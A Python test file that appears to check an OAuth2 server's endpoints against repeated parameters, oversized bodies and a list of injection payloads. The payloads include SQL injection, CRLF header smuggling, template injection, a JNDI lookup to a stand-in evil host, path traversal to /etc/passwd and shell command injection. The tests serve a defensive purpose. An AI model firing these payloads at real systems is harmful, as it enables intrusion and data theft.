"""Parameters that want to be read twice, to exhaust, or to mean something to somebody behind us (attacks 3, 35, 40)."""

from itertools import count
from typing import Any
from urllib.parse import quote

import httpx2
import pytest

from tests.api_caller import on_sqlite
from tests.forged import encoded
from tests.house import PASSWORD, House, Registered

PATHS = ("/oauth2/token", "/oauth2/introspect", "/oauth2/revoke")
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
PARAMETERS = (
    "grant_type",
    "client_id",
    "client_secret",
    "username",
    "password",
    "refresh_token",
    "token",
    "token_type_hint",
    "scope",
    "resource",
    "audience",
    "client_assertion",
    "client_assertion_type",
    "unknown",
)
OF_A_TOKEN = ("token", "token_type_hint", "client_id", "client_secret", "unknown")
INJECTIONS = (
    "' OR '1'='1' --",
    "'; DROP TABLE users; --",
    '" OR ""="',
    "x' UNION SELECT secret FROM client_secrets --",
    "1; SELECT pg_sleep(10)",
    "x\r\nSet-Cookie: a=b",
    "x\r\n\r\nHTTP/1.1 200 OK",
    "%0d%0aX-Injected: 1",
    "*)(uid=*))(|(uid=*",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n%x",
    "{0.__class__}",
    "<script>alert(1)</script>",
    "\x1b[2J\x1b]0;x\x07",
    "2026-01-01 ERROR forged line\n2026-01-01 ERROR another",
    "../../../etc/passwd",
    "| id",
    "`id`",
    "\u202eevil",
    "\ufeff",
    "é\u0301",
    "\U0001f4a9" * 50,
    "\0",
    "x\0y",
)


async def post(house: House, path: str, body: bytes, auth: Any = None) -> httpx2.Response:
    return await house.http.post(path, content=body, headers=FORM, auth=auth)


def is_sound(answer: httpx2.Response) -> bool:
    """A refusal, or the answer of revocation or introspection: well-formed, uncached, no status of ours."""
    members = answer.json()
    return (
        answer.status_code in (200, 400, 401, 413)
        and answer.headers["content-type"] == "application/json"
        and answer.headers["cache-control"] == "no-store"
        and answer.headers["x-content-type-options"] == "nosniff"
        and (answer.status_code == 200 or set(members) == {"error", "error_description"})
    )


@pytest.fixture
async def client(house: House) -> Registered:
    await house.add_user()
    return await house.add_client()


REPEATED = {
    "twice the same": "grant_type=client_credentials&grant_type=client_credentials",
    "two values": "grant_type=client_credentials&grant_type=password",
    "scope twice": "grant_type=client_credentials&scope=read&scope=write",
    "once empty": "grant_type=client_credentials&scope=read&scope=",
    "once without a value": "grant_type=client_credentials&scope=read&scope",
    "once in disguise": "grant_type=client_credentials&%73cope=read&scope=write",
    "an unknown one": "grant_type=client_credentials&x=1&x=2",
    "client_id": "grant_type=client_credentials&client_id=a&client_id=a",
}
READ_TWICE = {
    "a semicolon separates nothing": "grant_type=client_credentials;grant_type=password",
    "nor does an encoded ampersand": "grant_type=client_credentials%26grant_type=password",
    "brackets make no list": "grant_type[]=client_credentials",
    "names have a case": "Grant_Type=client_credentials",
    "names have their spaces": "grant_type =client_credentials",
    "nothing ends a value early": "grant_type=client_credentials%00",
    "nor a name": "grant_type%00=client_credentials",
    "JSON is no form": '{"grant_type":"client_credentials"}',
}


async def test_attack_3_a_repeated_parameter_is_refused(small_house: House) -> None:
    client = await small_house.add_client()
    for why, body in REPEATED.items():
        answer = await post(small_house, "/oauth2/token", body.encode(), client.basic)
        assert answer.status_code == 400, why
        assert answer.json() == {"error": "invalid_request", "error_description": "a parameter is repeated"}


async def test_attack_3_no_second_reading_of_a_body_is_served(small_house: House) -> None:
    client = await small_house.add_client()
    for why, body in READ_TWICE.items():
        answer = await post(small_house, "/oauth2/token", body.encode(), client.basic)
        assert answer.status_code == 400, why
        assert answer.json()["error"] in ("invalid_request", "unsupported_grant_type")


@on_sqlite
async def test_attack_3_what_stands_in_the_query_changes_nothing(house: House, client: Registered) -> None:
    body = b"grant_type=client_credentials&scope=read"
    for query in ("scope=write", "grant_type=password", "client_id=nobody", "resource=x", "client_secret=x"):
        answer = await post(house, f"/oauth2/token?{query}", body, client.basic)
        assert (answer.status_code, answer.json()["scope"]) == (200, "read")


@on_sqlite
async def test_attack_3_a_repeated_resource_is_allowed(house: House, client: Registered) -> None:
    body = b"grant_type=client_credentials&resource=https://id.example&resource=https://id.example"

    assert (await post(house, "/oauth2/token", body, client.basic)).status_code == 200


@on_sqlite
async def test_attack_35_megabyte_fields_are_refused_unread(house: House, client: Registered) -> None:
    megabyte = b"x" * 1_000_000
    for path in PATHS:
        for name in PARAMETERS:
            answer = await post(house, path, name.encode() + b"=" + megabyte, client.basic)
            assert answer.status_code == 413
            assert is_sound(answer)


async def test_attack_35_fields_that_just_fit_are_merely_wrong(house: House, client: Registered) -> None:
    large = "x" * 60_000
    for form in (
        {"grant_type": "password", "username": "alice", "password": large},
        {"grant_type": "password", "username": large, "password": PASSWORD},
        {"grant_type": "password", "username": f"a@{large}", "password": PASSWORD},
        {"grant_type": "refresh_token", "refresh_token": large},
        {"grant_type": "client_credentials", "scope": large},
        {"grant_type": "client_credentials", "scope": "read " * 10_000 + "read"},
        {"grant_type": "client_credentials", "resource": f"https://{large}"},
        {"grant_type": large},
    ):
        answer = await house.token(client, **form)
        assert is_sound(answer)
        assert answer.status_code == 400 or answer.json()["scope"] == "read"
        assert large not in answer.text
    for path in PATHS[1:]:
        for token in (large, f"idr_{large}", f"{large}.{large[:9]}.x"[:60_000]):
            assert is_sound(await house.post(path, client, token=token))


@on_sqlite
async def test_attack_35_100_000_parameters_are_refused(house: House, client: Registered) -> None:
    many = b"&".join(b"%d=" % number for number in range(100_000))
    just_fitting = b"&".join(b"%x=" % number for number in range(10_000))
    for path in PATHS:
        too_large = await post(house, path, many, client.basic)
        assert too_large.status_code == 413
        for body in (just_fitting, b"&" * 60_000, b"=&" * 30_000, b"resource=x&" * 5_000):
            answer = await post(house, path, body, client.basic)
            assert (answer.status_code, answer.json()["error"]) == (400, "invalid_request")


@on_sqlite
async def test_attack_35_deep_json_in_a_token_is_no_token(house: House, client: Registered) -> None:
    deep = [
        b"[" * 20_000,
        b'{"a":' * 5_000,
        b"[" * 10_000 + b"]" * 10_000,
        b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
    ]
    for part in deep:
        for token in (f"{encoded(part)}.{encoded(b'{}')}.x", f"e30.{encoded(part)}.x"):
            assert not await house.is_active(client, token)


async def test_attack_40_injection_strings_mean_nothing_in_any_field(
    house: House, client: Registered, caplog: pytest.LogCaptureFixture
) -> None:
    tokens, numbers = await house.sign_in(client), count()
    for path, names in (("/oauth2/token", PARAMETERS), *((path, OF_A_TOKEN) for path in PATHS[1:])):
        for text in INJECTIONS:
            for name in names:
                username = f"alice{next(numbers)}"  # another each time, or the limit on guessing would answer
                form = {"grant_type": "password", "username": username, "password": "x", "token": "x"}
                answer = await house.http.post(
                    path, data=form | {name: text}, auth=None if name.startswith("client_") else client.basic
                )
                assert is_sound(answer), (path, name, text)
                assert answer.status_code != 200 or path != "/oauth2/token"
                assert len(text) < 4 or text not in answer.text
                assert "set-cookie" not in answer.headers
                assert "x-injected" not in answer.headers
    assert await house.is_active(client, tokens["access_token"])
    assert not [record for record in caplog.records if record.levelname == "ERROR"]


async def test_attack_40_injection_strings_mean_nothing_as_credentials(
    house: House, client: Registered
) -> None:
    for text in INJECTIONS:
        for pair in ((text, client.secret), (client.id, text), (text, text)):
            answer = await house.http.post(
                "/oauth2/token", data={"grant_type": "client_credentials"}, auth=httpx2.BasicAuth(*pair)
            )
            assert (answer.status_code, answer.json()["error"]) == (401, "invalid_client")
    assert (await house.token(client, grant_type="client_credentials")).status_code == 200


@pytest.mark.parametrize("name", ["x'or'1'='1", "alice'--", "x'/**/or/**/username_key='alice", 'x"or"1"="1'])
async def test_attack_40_a_name_that_is_a_condition_finds_nobody(
    house: House, client: Registered, name: str
) -> None:
    """These are names that somebody could have, so that they get as far as the statement; the password is alice's."""
    answer = await house.token(client, grant_type="password", username=name, password=PASSWORD)

    assert house.container.names().username(name)
    assert (answer.status_code, answer.json()["error"]) == (400, "invalid_grant")


async def test_attack_40_injection_strings_mean_nothing_in_a_path_or_query(small_house: House) -> None:
    for text in INJECTIONS:
        for place in ("/", "/oauth2/", "/.well-known/", "/docs/assets/", "/?q=", "/openapi.json?url="):
            answer = await small_house.http.get(
                httpx2.URL("https://id.example").copy_with(raw_path=_raw(place, text))
            )
            assert answer.status_code in (200, 404)
            assert "set-cookie" not in answer.headers
            if answer.status_code == 404:
                assert answer.headers["content-type"] in ("application/json", "application/problem+json")


def _raw(place: str, text: str) -> bytes:
    return f"{place}{quote(text, safe='')}".encode()
